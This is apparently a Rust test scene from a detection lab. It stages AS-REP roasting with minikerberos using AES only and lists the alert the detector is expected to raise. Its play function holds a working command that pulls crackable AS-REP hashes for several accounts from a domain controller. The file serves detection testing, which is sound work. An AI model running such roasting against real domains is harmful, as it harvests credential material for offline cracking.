//! AS-REP roasting by minikerberos, a Kerberos stack of its own, with AES alone: there is no RC4 to
//! be recognised by.

use anyhow::Result;

use crate::lab::{ATTACKER, Lab};
use crate::scene::{Expected, Scene, Tool};

pub(super) const SCENE: Scene = Scene::attack(
    "asrep-roast-minikerberos",
    "AS-REP roasting of one account, AES (minikerberos)",
    Tool::python("minikerberos-asreproast", "minikerberos"),
    &[Expected {
        external_id: 2412,
        source: ATTACKER,
        account: None,
        targets: &["nopreauth@hawk.example"],
    }],
    play,
);

fn play(lab: &mut Lab) -> Result<()> {
    lab.host("attacker")?.script(
        r#"minikerberos-asreproast --etypes 18,17 "$DC" "$REALM" alice bob carol nopreauth |
               grep krb5asrep"#,
    )?;
    Ok(())
}
